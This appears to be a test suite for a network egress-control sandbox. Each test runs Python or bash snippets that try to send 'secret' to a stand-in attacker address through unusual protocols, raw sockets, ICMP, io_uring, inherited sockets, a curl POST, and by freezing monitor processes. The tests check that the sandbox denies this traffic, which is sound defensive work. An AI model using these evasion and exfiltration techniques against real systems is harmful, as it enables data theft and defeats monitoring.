/** Sockets and protocols of every kind as ways out. */

import assert from "node:assert/strict";
import { tool } from "../../src/demo/command.ts";
import { attack, inPython } from "../support/attack.ts";
import { events, none, some } from "../support/log.ts";
import { suite } from "../support/suite.ts";

const test = suite();

/** Python: tries a function that may fail, and goes on. */
const ATTEMPT = `
import socket, struct
ATTACKER = "203.0.113.66"
def attempt(name, work):
    try: print(name, work())
    except OSError as error: print(name, error)
`;

test("attack: Multipath TCP", async (scene) => {
  const run = await inPython(
    scene,
    `${ATTEMPT}
def mptcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.settimeout(2); s.connect((ATTACKER, 9000)); s.send(b"secret"); return s.recv(9)
attempt("mptcp", mptcp)`,
  );
  assert.match(run.stdout, /^mptcp /);
  some(run.log, { policy: "deny", dst_ip: "203.0.113.66" });
});

test("attack: UDP-Lite", async (scene) => {
  const run = await inPython(
    scene,
    `${ATTEMPT}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
attempt("sendto", lambda: s.sendto(b"secret", (ATTACKER, 9000)))
def connected(): s.connect((ATTACKER, 9000)); return s.send(b"secret")
attempt("connected", connected)`,
  );
  const dropped = { type: "gate", dst_ip: "203.0.113.66", message: "protocol 136 packet" } as const;
  some(run.log, dropped);
});

test("attack: SCTP, GRE, IPv6 in IPv4 and IPv4 in IPv4, from raw sockets", async (scene) => {
  const run = await inPython(
    scene,
    `${ATTEMPT}
sctp = struct.pack("!HHII", 9000, 9000, 0, 0) + struct.pack("!BBHIIHHI", 1, 0, 20, 1, 65536, 1, 1, 1)
inner6 = bytes([0x60, 0, 0, 0, 0, 6, 59, 64]) + bytes(32) + b"secret"
inner4 = bytes([0x45, 0, 0, 26, 0, 1, 0, 0, 64, 253, 0, 0]) + bytes(8) + b"secret"
for protocol, data in ((132, sctp), (47, bytes([0, 0, 8, 0]) + inner4), (41, inner6), (4, inner4)):
    attempt(protocol, lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol).sendto(data, (ATTACKER, 0)))
def own_head():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    head = bytes([0x45, 0, 0, 34, 0, 1, 0, 0, 64, 17, 0, 0]) + socket.inet_aton("192.0.2.2") + socket.inet_aton(ATTACKER)
    return s.sendto(head + struct.pack("!HHHH", 4444, 9000, 14, 0) + b"secret", (ATTACKER, 0))
attempt("IP_HDRINCL", own_head)`,
  );
  assert.equal(run.stdout.match(/Operation not permitted/g)?.length, 5, run.stdout);
  for (const protocol of ["protocol 132", "protocol 47", "protocol 41", "protocol 4", "udp"]) {
    some(run.log, { type: "gate", message: `socket refused: ${protocol}` });
  }
});

test("attack: IP options and fragments", async (scene) => {
  const run = await inPython(
    scene,
    `${ATTEMPT}
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    def options():
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(2)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([7, 11, 4]) + bytes(9))
        s.connect((ATTACKER, 9000)); s.send(b"secret"); return s.recv(9)
    attempt("options", options)
def fragments():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, 10, 0)
    return s.sendto(b"secret" * 5000, (ATTACKER, 9000))
attempt("fragments", fragments)
def corked():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((ATTACKER, 9000))
    s.setsockopt(17, 1, 1); s.send(b"sec"); s.send(b"ret"); s.setsockopt(17, 1, 0)
    return "sent"
attempt("corked", corked)`,
  );
  assert.equal(run.stdout.match(/^(options|fragments|corked)/gm)?.length, 4, run.stdout);
});

test("attack: a ping socket, whose echo requests carry data", async (scene) => {
  const program = `${ATTEMPT}
open("/proc/sys/net/ipv4/ping_group_range", "w").write("0 100")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
attempt("ping", lambda: s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b"secret", (ATTACKER, 0)))`;
  const run = await inPython(scene, program);
  some(run.log, { type: "gate", dst_ip: "203.0.113.66", message: "icmp packet" });
});

test("attack: io_uring makes the socket, connects and sends", async (scene) => {
  const source = new URL("../attack/io_uring.c", import.meta.url).pathname;
  const program = `${scene.folder}/io_uring`;
  await tool(["cc", "-O1", "-o", program, source]);
  const run = await attack(scene, [program, "203.0.113.66", "9000", "uplink"]);
  assert.match(run.stdout, /^tcp connect .*\nudp sendmsg .*\nudp connect .*\npacket sendmsg /);
  // The packet socket exists, but the uplink drops what it sends.
  const frame = {
    type: "gate",
    dst_ip: "203.0.113.66",
    dst_port: 9000,
    message: "udp packet",
  } as const;
  assert.equal(some(run.log, frame).exe, program);
  for (const event of events(run.log, { policy: "deny" })) assert.equal(event.exe, program);
});

test("attack: a socket that was made and connected before egress started", async (scene) => {
  const send = "echo secret >&3; cat <&4; echo kept";
  const open = `exec 3<>/dev/udp/203.0.113.66/9000 4<<<file; `;
  const [file = "", ...args] = scene.internet.command(["bash", "-c", open + send]);
  await new Deno.Command(file, { args }).output();
  await assert.rejects(scene.attackerGotNothing(), /attacker/, "the attack is none");
  await scene.begin();
  const run = await scene.run({
    policy: "site.test",
    command: ["bash", "-c", send],
    before: "exec 3<>/dev/udp/203.0.113.66/9000 4<<<file",
  });
  await scene.attackerGotNothing();
  assert.match(run.stderr, /3: Bad file descriptor/);
  // What is no socket of the network stays open.
  assert.equal(run.stdout, "file\nkept\n");
});

test("attack: threads, and children by vfork", async (scene) => {
  const run = await inPython(
    scene,
    `${ATTEMPT}
import os, threading
def send():
    attempt("thread", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (ATTACKER, 9000)))
    s = socket.socket(); s.settimeout(2)
    attempt("thread", lambda: (s.connect((ATTACKER, 9000)), s.send(b"secret"), s.recv(9)))
threads = [threading.Thread(target=send) for _ in range(4)]
for t in threads: t.start()
for t in threads: t.join()
pid = os.posix_spawn("/usr/bin/curl", ["curl", "-sS", "-m", "3", "-d", "secret", "http://203.0.113.66/"], os.environ)
os.waitpid(pid, 0)`,
  );
  const exes = new Set(events(run.log, { policy: "deny" }).map((event) => event.exe));
  assert.deepEqual([...exes].sort(), ["/usr/bin/curl", "/usr/bin/python3.11"]);
});

/** The roles stand still meanwhile: what they look at is what the process has become. */
const BECOMES = `
import glob, os, re, signal, socket
run = re.search("egress-[0-9a-f]{8}", open("/proc/self/cgroup").read())
roles = []
for path in run and glob.glob(f"/sys/fs/cgroup/**/{run[0]}/roles/cgroup.procs", recursive=True) or []:
    roles += [int(pid) for pid in open(path).read().split()]
print("roles", len(roles), flush=True)
for pid in roles: os.kill(pid, signal.SIGSTOP)
s = socket.create_connection(("203.0.113.66", 9000), 3)
s.set_inheritable(True)
s.send(b"secret")
resume = "".join(f"kill -CONT {pid}; " for pid in roles)
os.execv("/usr/bin/bash", ["bash", "-c", resume + "sleep 1; true"])
`;

test("attack: the process becomes an allowed program after it has connected", async (scene) => {
  const run = await inPython(scene, BECOMES, { policy: "203.0.113.66:9000 exe=/usr/bin/bash" });
  assert.match(run.stdout, /^roles [3-9]/);
  none(run.log, { policy: "allow", dst_ip: "203.0.113.66" });
  assert.match(some(run.log, { policy: "deny", dst_ip: "203.0.113.66" }).exe ?? "", /python/);
});
